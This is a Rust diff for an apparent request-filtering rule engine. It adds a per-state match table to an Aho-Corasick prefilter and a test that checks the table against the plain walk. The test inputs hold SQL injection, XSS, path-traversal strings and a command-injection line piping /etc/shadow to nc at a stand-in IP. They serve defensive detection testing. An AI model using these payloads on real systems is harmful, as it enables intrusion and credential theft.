@@ -201,6 +201,84 @@ pub(crate) struct Prefilter {
     /// Pattern index → slot (rule link) it belongs to.
     slot_of: Vec<u32>,
     slots: usize,
+    /// The slots of each match state, as a few word masks (see `MatchTable`).
+    by_state: Option<MatchTable>,
+}
+
+/// The slots every match state of the prefilter's DFA reports, made when the rule set is
+/// built: a state's patterns (often several, of one or a few links) become one `or` per
+/// 64 slots, instead of a pattern and a slot lookup each in the walk.
+#[derive(Debug)]
+struct MatchTable {
+    /// State ids are multiples of 2^shift (the DFA's stride): `id >> shift` indexes `ranges`.
+    shift: u32,
+    /// Per state: its range of `masks` (empty for a state that matches nothing).
+    ranges: Vec<(u32, u32)>,
+    /// (word of the hits, bits of it).
+    masks: Vec<(u32, u64)>,
+}
+
+impl MatchTable {
+    /// Walks every state reachable from the start (`patterns`: the bytes they hold, one
+    /// representative for all others, which lead where any other does); `None` when the
+    /// state ids do not make a dense table (then the walk looks patterns up as it goes).
+    fn new(dfa: &aho_corasick::dfa::DFA, patterns: &[Vec<u8>], slot_of: &[u32]) -> Option<Self> {
+        use aho_corasick::Anchored;
+        use aho_corasick::automaton::Automaton;
+        let mut seen = [false; 256];
+        for b in patterns.iter().flatten() {
+            seen[usize::from(b.to_ascii_lowercase())] = true;
+            seen[usize::from(b.to_ascii_uppercase())] = true;
+        }
+        let mut bytes: Vec<u8> = (0..=255u8).filter(|&b| seen[usize::from(b)]).collect();
+        bytes.extend((0..=255u8).find(|&b| !seen[usize::from(b)]));
+        let start = dfa.start_state(Anchored::No).ok()?;
+        let mut states = std::collections::HashSet::from([start]);
+        let mut todo = vec![start];
+        while let Some(sid) = todo.pop() {
+            for &b in &bytes {
+                let next = dfa.next_state(Anchored::No, sid, b);
+                if states.insert(next) {
+                    todo.push(next);
+                }
+            }
+        }
+        let gcd = states
+            .iter()
+            .fold(0usize, |g, s| num_gcd(g, s.as_usize()))
+            .max(1);
+        let shift = gcd.trailing_zeros();
+        let max = states.iter().map(|s| s.as_usize() >> shift).max()?;
+        if max > 4 * states.len() + 16 {
+            return None;
+        }
+        let mut ranges = vec![(0u32, 0u32); max + 1];
+        let mut masks: Vec<(u32, u64)> = Vec::new();
+        for &sid in &states {
+            if !dfa.is_match(sid) {
+                continue;
+            }
+            let from = masks.len();
+            for i in 0..dfa.match_len(sid) {
+                let s = slot_of[dfa.match_pattern(sid, i).as_usize()];
+                let (w, bit) = (s / 64, 1u64 << (s % 64));
+                match masks[from..].iter_mut().find(|(word, _)| *word == w) {
+                    Some((_, m)) => *m |= bit,
+                    None => masks.push((w, bit)),
+                }
+            }
+            ranges[sid.as_usize() >> shift] = (from as u32, masks.len() as u32);
+        }
+        Some(MatchTable {
+            shift,
+            ranges,
+            masks,
+        })
+    }
+}
+
+fn num_gcd(a: usize, b: usize) -> usize {
+    if b == 0 { a } else { num_gcd(b, a % b) }
 }
 
 impl Prefilter {
@@ -219,9 +297,19 @@ impl Prefilter {
         for &b in value {
             sid = dfa.next_state(Anchored::No, sid, b);
             if dfa.is_special(sid) && dfa.is_match(sid) {
-                for i in 0..dfa.match_len(sid) {
-                    let s = self.slot_of[dfa.match_pattern(sid, i).as_usize()] as usize;
-                    words[s / 64] |= 1 << (s % 64);
+                match &self.by_state {
+                    Some(table) => {
+                        let (from, to) = table.ranges[sid.as_usize() >> table.shift];
+                        for &(w, mask) in &table.masks[from as usize..to as usize] {
+                            words[w as usize] |= mask;
+                        }
+                    }
+                    None => {
+                        for i in 0..dfa.match_len(sid) {
+                            let s = self.slot_of[dfa.match_pattern(sid, i).as_usize()] as usize;
+                            words[s / 64] |= 1 << (s % 64);
+                        }
+                    }
                 }
             }
         }
@@ -460,6 +548,7 @@ impl RuleSet {
                 .build(&raw.patterns);
             match built {
                 Ok(dfa) => Some(Prefilter {
+                    by_state: MatchTable::new(&dfa, &raw.patterns, &raw.slot_of),
                     dfa,
                     slot_of: raw.slot_of,
                     slots: raw.slots,
@@ -614,6 +703,37 @@ mod tests {
         let b = a ^ (1 << 60);
         known.insert(b);
         assert!(known.contains(b) && !known.contains(a));
+    }
+
+    #[test]
+    fn match_table_gives_the_pattern_walks_hits() {
+        let engine = Engine::builtin();
+        let p = engine.rules().prefilter.as_ref().unwrap();
+        assert!(p.by_state.is_some());
+        let plain = Prefilter {
+            dfa: p.dfa.clone(),
+            slot_of: p.slot_of.clone(),
+            slots: p.slots,
+            by_state: None,
+        };
+        let inputs = [
+            &b""[..],
+            b"/news/2026/11/index.html",
+            b"1' UNION SELECT password FROM users--",
+            b"<script>alert(document.cookie)</script>",
+            b"../../etc/passwd",
+            b";cat /etc/shadow | nc 10.0.0.1 80",
+            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+            "\u{7b2c}1\u{53f7}\u{901a}\u{77e5}".as_bytes(),
+            b"\\x00\\xff%00%u0027 OR 1=1 # <svg onload=x> javascript:eval(1)",
+        ];
+        let mut found = 0;
+        for input in inputs {
+            let (a, b) = (p.hits(input), plain.hits(input));
+            assert_eq!(a.words(), b.words(), "{:?}", String::from_utf8_lossy(input));
+            found += a.words().iter().map(|w| w.count_ones()).sum::<u32>();
+        }
+        assert!(found > 10, "the inputs hit some slots: {found}");
     }
 
     #[test]
